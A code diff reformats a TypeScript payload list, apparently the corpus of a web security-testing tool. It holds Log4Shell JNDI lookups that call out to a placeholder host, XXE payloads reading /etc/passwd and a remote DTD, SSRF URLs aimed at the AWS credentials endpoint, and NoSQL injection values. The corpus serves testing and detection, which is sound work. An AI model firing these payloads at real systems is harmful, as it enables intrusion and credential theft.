@@ -67,14 +67,38 @@ export const ATTACK_PAYLOADS: readonly AttackPayload[] = [
   { category: 'log4shell', name: 'jndi dns', value: `\${jndi:dns://${HOST}/a}` },
   { category: 'log4shell', name: 'lower-case lookups', value: `\${\${lower:j}ndi:\${lower:l}dap://${HOST}/a}` },
   { category: 'log4shell', name: 'default-value lookups', value: `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://${HOST}/a}` },
-  { category: 'log4shell', name: 'env default lookups', value: `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${HOST}/a}` },
+  {
+    category: 'log4shell',
+    name: 'env default lookups',
+    value: `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${HOST}/a}`,
+  },
 
   // XML external entities: file and remote entities, parameter entities, XInclude, entity expansion.
-  { category: 'xxe', name: 'file entity', value: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>' },
-  { category: 'xxe', name: 'remote parameter entity', value: `<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://${HOST}/evil.dtd"> %xxe;]><foo/>` },
-  { category: 'xxe', name: 'php filter entity', value: '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>' },
-  { category: 'xxe', name: 'xinclude', value: '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></foo>' },
-  { category: 'xxe', name: 'entity expansion', value: '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>' },
+  {
+    category: 'xxe',
+    name: 'file entity',
+    value: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
+  },
+  {
+    category: 'xxe',
+    name: 'remote parameter entity',
+    value: `<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://${HOST}/evil.dtd"> %xxe;]><foo/>`,
+  },
+  {
+    category: 'xxe',
+    name: 'php filter entity',
+    value: '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>',
+  },
+  {
+    category: 'xxe',
+    name: 'xinclude',
+    value: '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></foo>',
+  },
+  {
+    category: 'xxe',
+    name: 'entity expansion',
+    value: '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
+  },
 
   // Server-side request forgery: cloud metadata, loopback services, odd schemes and IP spellings.
   { category: 'ssrf', name: 'aws metadata', value: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
@@ -86,9 +110,26 @@ export const ATTACK_PAYLOADS: readonly AttackPayload[] = [
   // NoSQL injection (MongoDB operators, server-side JavaScript).
   { category: 'nosqli', name: 'ne operator', value: '{"$ne": null}', pair: { name: 'q[$ne]', value: 'gatecheck' }, json: { $ne: null } },
   { category: 'nosqli', name: 'gt operator', value: '{"$gt": ""}', pair: { name: 'q[$gt]', value: '' }, json: { $gt: '' } },
-  { category: 'nosqli', name: 'where sleep', value: '{"$where": "sleep(5000)"}', pair: { name: 'q[$where]', value: 'sleep(5000)' }, json: { $where: 'sleep(5000)' } },
-  { category: 'nosqli', name: 'regex match-all', value: '{"$regex": ".*"}', pair: { name: 'q[$regex]', value: '.*' }, json: { $regex: '.*' } },
-  { category: 'nosqli', name: 'where javascript', value: "'; return this.password != ''; var x='", json: { $where: "this.password != ''" } },
+  {
+    category: 'nosqli',
+    name: 'where sleep',
+    value: '{"$where": "sleep(5000)"}',
+    pair: { name: 'q[$where]', value: 'sleep(5000)' },
+    json: { $where: 'sleep(5000)' },
+  },
+  {
+    category: 'nosqli',
+    name: 'regex match-all',
+    value: '{"$regex": ".*"}',
+    pair: { name: 'q[$regex]', value: '.*' },
+    json: { $regex: '.*' },
+  },
+  {
+    category: 'nosqli',
+    name: 'where javascript',
+    value: "'; return this.password != ''; var x='",
+    json: { $where: "this.password != ''" },
+  },
 ];
 
 /** Payloads of one category, in corpus order. */
